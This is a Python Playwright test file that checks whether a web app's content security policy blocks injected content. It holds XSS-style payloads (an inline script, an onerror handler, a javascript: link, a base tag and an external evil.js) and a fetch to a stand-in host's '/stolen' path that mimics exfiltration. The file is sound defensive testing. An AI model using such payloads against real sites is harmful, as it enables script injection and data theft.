"""The content security policy: only the page's own script runs, and the page keeps to it."""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tests.support.browser import photos
from tests.support.browser.gateway import Gateway
from tests.support.browser.steps import Asked, pick, tiles
from tests.support.browser.system import PhotoRequest, call, eventually, force_upload

pytestmark = pytest.mark.browser

_STRANGER = "http://stranger.example"
_LISTEN = """document.addEventListener('securitypolicyviolation', (event) => {
  violated(event.effectiveDirective, event.blockedURI);
});"""
#: Tricks of an attacker who can write into the page; each leaves its name in `window.tricks` when it works.
_INJECTED = f"""
<script>window.tricks = [...(window.tricks || []), 'inline script'];</script>
<img src="data:," alt="" onerror="window.tricks = [...(window.tricks || []), 'inline handler']">
<p id="styled" style="color: rgb(1, 2, 3)">styled</p>
<style>body {{ --styled: by-a-stranger }}</style>
<script src="{_STRANGER}/evil.js"></script>
<img src="{_STRANGER}/pixel.png" alt="">
<iframe src="{_STRANGER}/frame.html"></iframe>
<base href="{_STRANGER}/">
<a id="link" href="javascript:window.tricks = [...(window.tricks || []), 'javascript: link']">link</a>
"""
_WHAT_WORKED = """() => [
  ...(window.tricks || []),
  ...(getComputedStyle(document.getElementById('styled')).color === 'rgb(1, 2, 3)' ? ['style attribute'] : []),
  ...(getComputedStyle(document.body).getPropertyValue('--styled') ? ['style element'] : []),
  ...(document.baseURI.startsWith('http://stranger') ? ['base'] : []),
]"""
_TRY_TO_SEND_OUT = f"""async () => {{
  await new Promise(requestAnimationFrame);  // playwright's own call may use eval
  const tries = [() => fetch('{_STRANGER}/stolen'), () => new Function('return 1')()];
  return Promise.all(tries.map((each) => new Promise((done) => done(each())).then(() => 'worked', () => 'blocked')));
}}"""
_ALL_TRICKS = {
    "inline script",
    "inline handler",
    "javascript: link",
    "style attribute",
    "style element",
    "base",
    "/evil.js",
    "/pixel.png",
    "/frame.html",
}
_REPORTED = {
    ("script-src-elem", "inline"),
    ("script-src-attr", "inline"),
    ("style-src-attr", "inline"),
    ("style-src-elem", "inline"),
    ("base-uri", f"{_STRANGER}/"),
    ("script-src-elem", f"{_STRANGER}/evil.js"),
    ("img-src", f"{_STRANGER}/pixel.png"),
    ("frame-src", _STRANGER),
}


def violations_of(phone: Page) -> list[tuple[str, str]]:
    """Return the list that directive and address of each violation will be in, of all pages opened from here on."""
    found: list[tuple[str, str]] = []
    phone.expose_function("violated", lambda directive, address: found.append((directive, address)))
    phone.add_init_script(_LISTEN)
    return found


def test_case_36_the_whole_way_violates_no_policy(phone: Page, gateway: Gateway, asked: Asked, tmp_path: Path) -> None:
    request = asked(comment="Снимите левую дверь.", categories=[{"code": "exterior", "min": 1, "max": 5}, "damage"])
    picked = [photos.written(tmp_path, f"{seed}.jpg", photos.jpeg(seed=seed)) for seed in (3600, 3601)]
    large = photos.written(tmp_path, "large.jpg", photos.jpeg(seed=3602, width=3200, height=2400))
    force_upload(
        request, photo_id="01J00000000000000000000036", category="damage", content_type="image/jpeg", body=b"no photo"
    )
    gateway.faults.extend(["403", "403", "reset"])
    found = violations_of(phone)

    phone.goto(f"{request.api}/c")
    phone.locator("#code").fill(request.code)
    phone.get_by_role("button").click()
    phone.locator("#start").click()
    pick(phone, photos.written(tmp_path, "no.jpg", b"%PDF-1.7"), *picked)
    expect(phone.locator("#tell-1 p")).to_have_count(1)
    phone.locator("#photos-1 .again:visible").click()
    expect(phone.locator(tiles(phone, "received"))).to_have_count(2)
    phone.locator("#photos-1 .remove").first.click()
    expect(phone.locator("#photos-1 > li")).to_have_count(1)
    phone.reload()  # the received photo is now shown from the storage
    expect(phone.locator("#photos-1 .picture")).to_be_visible()
    phone.locator("#next-1").click()
    expect(phone.locator(tiles(phone, "rejected", step=2))).to_have_count(1)
    pick(phone, large, step=2)
    expect(phone.locator(tiles(phone, "received", step=2))).to_have_count(1)
    phone.locator("#next-2").click()
    phone.locator("#submit").click()
    expect(phone.locator("#done")).to_be_visible()
    phone.locator(".languages [lang=es]").click()
    expect(phone.locator("#done")).to_be_visible()
    phone.goto(f"{request.link}x")
    expect(phone.locator("h1")).to_be_visible()

    phone.evaluate("0")

    request.filed(2)
    assert found == []


@pytest.fixture
def context(chromium: Browser) -> Iterator[BrowserContext]:
    """Yield a browser of its own, since it reports blocked content as errors."""
    context = chromium.new_context()
    yield context
    context.close()


@dataclass(frozen=True)
class Attack:
    """A page with everything injected into it: its violations, and fetches from the stranger."""

    page: Page
    violations: list[tuple[str, str]]
    fetched: set[str]

    def reported(self) -> set[tuple[str, str]]:
        """Return directive and address of each violation so far."""
        self.page.evaluate("0")  # the browser's words so far are heard with its answer
        return set(self.violations)

    def worked(self) -> set[str]:
        """Return the effects of the injection."""
        return {*self.page.evaluate(_WHAT_WORKED), *self.fetched}


def attack(context: BrowserContext, request: PhotoRequest, *, policy: bool) -> Attack:
    """Open the page as it would come if somebody could write into it, with its policy or without."""
    page = context.new_page()
    attack = Attack(page, violations_of(page), set())

    def strange(route: Route) -> None:
        attack.fetched.add(route.request.url.removeprefix(_STRANGER))
        route.fulfill(body="")

    def spoil(route: Route) -> None:
        served = call("GET", request.link)
        kept = {name: each for name, each in served.headers.items() if policy or "policy" not in name.lower()}
        route.fulfill(headers=kept, body=served.body.decode().replace("<main", f"{_INJECTED}<main", 1))

    page.route(f"{_STRANGER}/**", strange)
    page.route(request.link, spoil)
    page.goto(request.link)
    page.locator("#link").dispatch_event("click")
    return attack


def test_case_36_what_is_injected_into_the_page_is_blocked_and_reported(context: BrowserContext, asked: Asked) -> None:
    attacked = attack(context, asked(), policy=True)

    expect(attacked.page.locator("#start")).to_be_visible()
    eventually(attacked.reported, holds=lambda reported: reported >= _REPORTED)
    assert attacked.page.evaluate(_TRY_TO_SEND_OUT) == ["blocked", "blocked"]
    assert {directive for directive, _ in attacked.reported()} >= {"connect-src", "script-src"}
    assert attacked.worked() == set()


def test_case_36_without_the_policy_the_same_injection_would_work(context: BrowserContext, asked: Asked) -> None:
    attacked = attack(context, asked(), policy=False)

    eventually(attacked.worked, holds=lambda worked: worked >= _ALL_TRICKS)
    assert attacked.reported() == set()


def test_case_36_markup_in_what_staff_write_stays_text(phone: Page, asked: Asked) -> None:
    markup = "<script>window.tricks = 1</script><img src=x onerror='window.tricks = 2'></script>{{ 7 * 7 }}"
    request = asked(comment=markup)
    found = violations_of(phone)

    phone.goto(request.link)

    expect(phone.locator("#welcome blockquote")).to_contain_text(markup)
    expect(phone.locator("#start")).to_be_visible()
    assert phone.evaluate("window.tricks") is None
    assert found == []


def test_case_36_every_page_has_the_same_strict_policy(asked: Asked) -> None:
    request = asked()
    pages = [call("GET", address) for address in (request.link, f"{request.link}x", f"{request.api}/c")]

    for page in pages:
        policy = directives(page.headers)
        assert policy["default-src"] == ["'none'"]
        assert (policy["base-uri"], policy["frame-ancestors"]) == (["'none'"], ["'none'"])
        assert "unsafe" not in str(policy)
        assert not {"*", "http:", "https:"} & {source for sources in policy.values() for source in sources}


def directives(headers: Mapping[str, str]) -> dict[str, list[str]]:
    """Return the sources of each directive of a page's policy."""
    policy = next(value for name, value in headers.items() if name.lower() == "content-security-policy")
    return {words[0]: words[1:] for part in policy.split(";") if (words := part.split())}
